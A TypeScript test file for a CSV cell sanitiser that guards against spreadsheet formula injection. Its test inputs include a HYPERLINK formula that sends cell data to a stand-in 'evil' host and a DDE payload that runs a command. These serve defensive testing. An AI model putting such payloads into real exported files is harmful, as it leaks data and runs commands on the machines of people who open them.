/**
 * csv-cell.ts: text a spreadsheet would evaluate is written as text, with a
 * leading quote (OWASP's advice); numbers, and text that is just a number,
 * are never changed.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell } from '../../src/render/csv-cell.js';

describe('csvCell', () => {
  it.each(['=HYPERLINK("http://evil/"&A1,"click")', "=cmd|' /C calc'!A0", '+SUM(1+1)', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', '-'])(
    'writes %j as text',
    (formula) => {
      expect(csvCell(formula)).toBe(`'${formula}`);
    },
  );

  it.each(['-3', '+3', '-12.5', '-12.5%', '70.5%', '1e3', '-.5'])('leaves the number %j as it is', (number) => {
    expect(csvCell(number)).toBe(number);
  });

  it('leaves number values and ordinary text as they are', () => {
    expect(csvCell(-3)).toBe(-3);
    expect(csvCell(22)).toBe(22);
    expect(csvCell('三组路灯不亮')).toBe('三组路灯不亮');
    expect(csvCell('永胜-20230408-01')).toBe('永胜-20230408-01');
    expect(csvCell('')).toBe('');
  });

  it('never gives text a spreadsheet would evaluate', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '1', '.', '%', 'A', '(', ')', '永') }), (text) => {
        const cell = String(csvCell(text));
        return !/^[=+\-@\t\r]/.test(cell) || /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?$/.test(cell);
      }),
    );
  });
});
